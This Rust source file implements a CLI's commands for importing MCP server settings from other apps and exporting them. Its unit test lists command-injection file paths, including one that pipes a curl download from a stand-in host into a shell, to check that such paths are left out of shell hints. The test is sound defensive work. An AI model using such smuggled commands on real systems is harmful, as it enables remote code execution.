//! The `import` and `export` commands: adds servers from the settings of other apps, and prints servers in the formats
//! of other apps.

use std::path::PathBuf;

use api::ApiError;
use installer::imports::{self, ImportError};
use other_apps::{
    AppEnvironment, ExportOmissions, FoundServer, ImportNote, ImportNoteKind, ImportStatus, ScanReport, ScanScope,
    ServerExportFormat, ServerListExport, ValueSource,
};
use ports::SecretPersistence;
use ports::server_config::{ConfigProblem, ServerEntry, ServerTransport};
use serde_json::{Map, Value, json};

use crate::arguments::{ExportFormat, ImportArguments};
use crate::failure::CommandFailure;
use crate::session::CommandSession;
use crate::terminal_escape::{escape_line, escape_value};

/// Searches for servers in the settings of other apps, and imports them, or only prints them if `--dry-run` is set.
pub(crate) async fn run(session: &CommandSession, what: ImportArguments) -> Result<Value, CommandFailure> {
    session.resolve_server_names(None).await?;
    let mut surroundings = app_environment(what.home)?;
    surroundings.workspace = what.workspace.map(workspace_folder).transpose()?;
    let from = import_scan_scope(what.from);
    let report = imports::find_servers_of_other_apps(session.api.host(), from, surroundings.into()).await;
    let mut report = report.map_err(|error| match &error {
        ImportError::Source(problem) => CommandFailure::usage_error(config_problem_text(problem)),
        ImportError::NoProject(_) => CommandFailure::usage_error(error.to_string()),
        ImportError::Closed(closed) => ApiError::from(*closed).into(),
    })?;
    for problem in &report.problems {
        session.output.print_event("problem", json!(problem));
        session.output.print_message(&escape_line(&config_problem_text(problem)));
    }
    let chosen = ChosenSources { variables: what.take_env, files: what.take_file };
    chosen.check(&report)?;
    let mut failures = Vec::new();
    if !what.dry_run {
        for server in report.servers.iter_mut().filter(|server| is_importable(server)) {
            let names = chosen.values(server);
            let taken = server.take_values(&names, &|name| std::env::var(name).ok());
            server.notes.extend(taken.unset.iter().map(|name| unset_variable_note(name)));
            match imports::import_server(session.api.host(), server).await.map_err(ApiError::from) {
                Ok(persistence) => server.notes.extend(unstorable_secrets_note(server, &persistence)),
                Err(error) => {
                    let note = format!("it was not imported: {}", error.message);
                    server.notes.push(ImportNote::new(ImportNoteKind::Reason, note));
                    failures.push((server.name.clone(), error));
                }
            }
        }
    }
    session.output.print_text(&import_report_text(&report, what.dry_run, failures.len()));
    let servers = Value::Array(report.servers.iter().map(found_server_json).collect());
    match failures.into_iter().next() {
        None => Ok(servers),
        Some((name, error)) => {
            let failure = CommandFailure::from(ApiError { message: format!("{name}: {}", error.message), ..error });
            Err(CommandFailure { value: Some(Box::new(servers)), ..failure })
        }
    }
}

/// Prints the configured servers in the settings format of another app, and lists what the format omits for each
/// server.
pub(crate) async fn export_servers(session: &CommandSession, format: ExportFormat) -> Result<Value, CommandFailure> {
    session.resolve_server_names(None).await?;
    let form = match format {
        ExportFormat::McpServers => ServerExportFormat::McpServers,
        ExportFormat::VsCode => ServerExportFormat::VsCode,
    };
    let servers = servers_in_settings_file(session).await?;
    let ServerListExport { document, omissions } = other_apps::export(&servers, form);
    for (server, omissions) in servers.iter().zip(&omissions) {
        let notes = omissions.entry_notes();
        if !notes.is_empty() {
            let ExportOmissions { secrets, settings, .. } = omissions;
            let fields = json!({ "server": server.name, "secrets": secrets, "settings": settings, "notes": notes });
            session.output.print_event("omitted", fields);
        }
        for note in notes {
            session.output.print_message(&format!("{}: {}", escape_value(&server.name), escape_line(&note)));
        }
    }
    session.output.print_text(&crate::terminal_escape::escape_and_prefix_lines(&format!("{document:#}"), ""));
    Ok(document)
}

async fn servers_in_settings_file(session: &CommandSession) -> Result<Vec<ServerEntry>, CommandFailure> {
    let snapshot = session.api.host().snapshot().await.map_err(ApiError::from)?;
    Ok(snapshot.servers.into_iter().map(|server| ServerEntry { name: server.name, config: server.config }).collect())
}

fn app_environment(home: Option<PathBuf>) -> Result<AppEnvironment, CommandFailure> {
    if let Some(home) = home {
        if !home.is_dir() {
            return Err(CommandFailure::usage_error(format!("--home: {} is not a folder", home.display())));
        }
        let home =
            std::path::absolute(&home).map_err(|error| CommandFailure::usage_error(format!("--home: {error}")))?;
        return Ok(AppEnvironment::for_home(home));
    }
    let home = std::env::home_dir()
        .ok_or_else(|| CommandFailure::usage_error("there is no home folder; specify one with --home"))?;
    Ok(AppEnvironment::current_user(home, |name| std::env::var_os(name).map(PathBuf::from)))
}

/// Returns the absolute path of the folder that replaces `${workspaceFolder}`.
fn workspace_folder(folder: PathBuf) -> Result<PathBuf, CommandFailure> {
    if !folder.is_dir() {
        return Err(CommandFailure::usage_error(format!("--workspace: {} is not a folder", folder.display())));
    }
    let folder =
        std::path::absolute(&folder).map_err(|error| CommandFailure::usage_error(format!("--workspace: {error}")))?;
    match folder.to_str() {
        Some(_) => Ok(folder),
        None => Err(CommandFailure::usage_error(format!("--workspace: {} is not Unicode", folder.display()))),
    }
}

/// Returns where to search for servers: in the settings of the app with this name, or in the file or project folder at
/// this path. Without a name, the scope is all apps.
fn import_scan_scope(named: Option<String>) -> ScanScope {
    match named {
        None => ScanScope::All,
        Some(name) if other_apps::apps::find_source_app(&name).is_none() && PathBuf::from(&name).exists() => {
            ScanScope::Path(PathBuf::from(name))
        }
        Some(name) => ScanScope::App(name),
    }
}

/// Environment variables and files from which the user takes values.
struct ChosenSources {
    variables: Vec<String>,
    files: Vec<String>,
}

impl ChosenSources {
    /// Checks that a value of a server can be taken from each variable and file.
    fn check(&self, report: &ScanReport) -> Result<(), CommandFailure> {
        let sources: Vec<&ValueSource> = report.servers.iter().flat_map(|server| server.sources.values()).collect();
        let has_variable = |name: &str| {
            sources.iter().any(|source| match source {
                ValueSource::Environment(text) => text.variables().contains(&name),
                ValueSource::File { .. } => false,
            })
        };
        let has_file =
            |file: &str| sources.iter().any(|source| matches!(source, ValueSource::File { path, .. } if path == file));
        if let Some(name) = self.variables.iter().find(|name| !has_variable(name)) {
            return Err(CommandFailure::usage_error(format!("--take-env: no server refers to the variable {name}")));
        }
        if let Some(file) = self.files.iter().find(|file| !has_file(file)) {
            let message = format!("--take-file: no value can be taken from the file {file}");
            return Err(CommandFailure::usage_error(message));
        }
        Ok(())
    }

    /// Returns the names of the variables and headers of a server whose values are taken. All environment variables
    /// that a value refers to have to be chosen.
    fn values(&self, server: &FoundServer) -> Vec<String> {
        let is_chosen = |source: &ValueSource| match source {
            ValueSource::Environment(text) => {
                text.variables().into_iter().all(|name| self.variables.iter().any(|chosen| chosen == name))
            }
            ValueSource::File { path, .. } => self.files.contains(path),
        };
        let sources = server.sources.iter().filter(|(_, source)| is_chosen(source));
        sources.map(|(name, _)| name.clone()).collect()
    }
}

/// Returns a line about how to take a value from its source. The user may copy the options to a shell, so they are
/// quoted, and a path with a sign that some shell reads in another way is omitted.
fn value_source_text(name: &str, source: &ValueSource) -> String {
    match source {
        ValueSource::Environment(text) => {
            let options =
                text.variables().into_iter().map(|variable| format!("--take-env {}", shell_words::quote(variable)));
            let options = options.collect::<Vec<_>>().join(" ");
            format!("{name:?} can be taken from your environment with {options}")
        }
        ValueSource::File { path, .. } => {
            let is_plain = |c: char| c.is_alphanumeric() || "-_./\\:~@+, ".contains(c);
            let path = if path.chars().all(is_plain) { shell_words::quote(path) } else { "FILE".into() };
            format!("{name:?} can be taken from its file with --take-file {path}")
        }
    }
}

fn value_source_json(source: &ValueSource) -> Value {
    match source {
        ValueSource::Environment(text) => json!({ "environment": text.variables() }),
        ValueSource::File { path, .. } => json!({ "file": path }),
    }
}

fn unset_variable_note(name: &str) -> ImportNote {
    let note = format!("the variable {name} is not set in the environment of this program: enter the value");
    ImportNote::new(ImportNoteKind::EnterValue, note).with_names([name])
}

/// Returns a note if the secrets of a server are lost when this program exits, so that the user has to enter them
/// again.
fn unstorable_secrets_note(server: &FoundServer, persistence: &SecretPersistence) -> Option<ImportNote> {
    let SecretPersistence::ThisRun { cause } = persistence else { return None };
    let names: Vec<&str> = server
        .secrets
        .keys()
        .map(String::as_str)
        .chain(server.client_secret.is_some().then_some("its client's secret"))
        .collect();
    let note = format!(
        "no keychain can store the value of {} ({cause}): enter it in the app or with \"drawbridge-cli secret\"",
        names.join(", ")
    );
    Some(ImportNote::new(ImportNoteKind::EnterValue, note).with_names(names))
}

fn config_problem_text(problem: &ConfigProblem) -> String {
    let file = problem.file.as_deref().map(|file| format!("{file}: ")).unwrap_or_default();
    let at = problem.line.map(|line| format!("line {line}: ")).unwrap_or_default();
    let column = problem
        .column
        .filter(|_| problem.line.is_some())
        .map(|column| format!("column {column}: "))
        .unwrap_or_default();
    format!("{file}{at}{column}{}", problem.message)
}

/// Formats a server that was found as JSON.
fn found_server_json(server: &FoundServer) -> Value {
    let mut object = Map::new();
    let origin = server.origins.first();
    object.insert("app".to_owned(), origin.map(|origin| origin.app.as_str()).into());
    object.insert("file".to_owned(), origin.map(|origin| origin.file.as_str()).into());
    object.insert("name".to_owned(), server.name.as_str().into());
    object.insert("transport".to_owned(), server.transport().into());
    match &server.config.transport {
        ServerTransport::Stdio(stdio) => {
            object.insert("command".to_owned(), stdio.command.as_str().into());
            object.insert("args".to_owned(), json!(stdio.args));
        }
        ServerTransport::Http(http) => {
            object.insert("url".to_owned(), http.url.as_str().into());
            object.insert("args".to_owned(), json!([]));
        }
    }
    let kinds = |kinds: &std::collections::BTreeMap<String, other_apps::ImportedValueKind>| -> Value {
        kinds.iter().map(|(name, kind)| (name.clone(), Value::from(kind.json_name()))).collect::<Map<_, _>>().into()
    };
    object.insert("env".to_owned(), kinds(&server.env));
    object.insert("headers".to_owned(), kinds(&server.headers));
    let source = |(name, source)| (String::clone(name), value_source_json(source));
    object.insert("sources".to_owned(), server.sources.iter().map(source).collect::<Map<_, _>>().into());
    object.insert("status".to_owned(), server.status.json_name().into());
    object.insert("notes".to_owned(), server.notes.iter().map(|note| note.text.as_str()).collect());
    Value::Object(object)
}

fn is_importable(server: &FoundServer) -> bool {
    matches!(server.status, ImportStatus::New | ImportStatus::Conflict)
}

/// Formats the servers that were found in other apps as readable text, grouped by file. `failed` is the number of
/// servers that could not be imported. Only a dry run lists the sources from which an import can take values.
fn import_report_text(report: &ScanReport, dry_run: bool, failed: usize) -> String {
    let mut text = String::new();
    for file in &report.files {
        let app = other_apps::apps::find_source_app(file.app).map_or(file.app, |app| app.name);
        let count = if file.servers == 1 { String::from("1 server") } else { format!("{} servers", file.servers) };
        text.push_str(&format!("{app}  {}  {count}\n", escape_line(&file.file)));
        let is_here = |server: &&FoundServer| server.origins.first().is_some_and(|origin| origin.file == file.file);
        for server in report.servers.iter().filter(is_here) {
            let status = server.status.json_name();
            text.push_str(&format!(
                "  {}  {status}  {}\n",
                escape_value(&server.name),
                escape_line(&server.config.command_line())
            ));
            for note in &server.notes {
                text.push_str(&format!("    {}\n", escape_line(&note.text)));
            }
            for (name, source) in server.sources.iter().filter(|_| dry_run && is_importable(server)) {
                text.push_str(&format!("    {}\n", escape_line(&value_source_text(name, source))));
            }
        }
    }
    let count = report.servers.iter().filter(|server| is_importable(server)).count();
    let rest = report.servers.len() - count;
    let verb = if dry_run { "to import" } else { "imported, none started" };
    let done = count.saturating_sub(failed);
    let failed = if failed == 0 { String::new() } else { format!("; {failed} failed") };
    text.push_str(&format!("{done} {verb}; {rest} the same or unsupported{failed}\n"));
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_in_hints_are_quoted_or_omitted() {
        let cases = [
            ("/home/ann/server.env", "/home/ann/server.env"),
            ("~/my server.env", "'~/my server.env'"),
            ("a;curl far.example|sh", "FILE"),
            ("a';curl far.example;'b", "FILE"),
            ("a&calc", "FILE"),
            ("$(calc)", "FILE"),
        ];
        for (path, shown) in cases {
            let source = ValueSource::File { path: path.to_owned(), value: String::from("hunter2").into() };
            let expected = format!("\"KEY\" can be taken from its file with --take-file {shown}");
            assert_eq!(value_source_text("KEY", &source), expected);
        }
    }
}
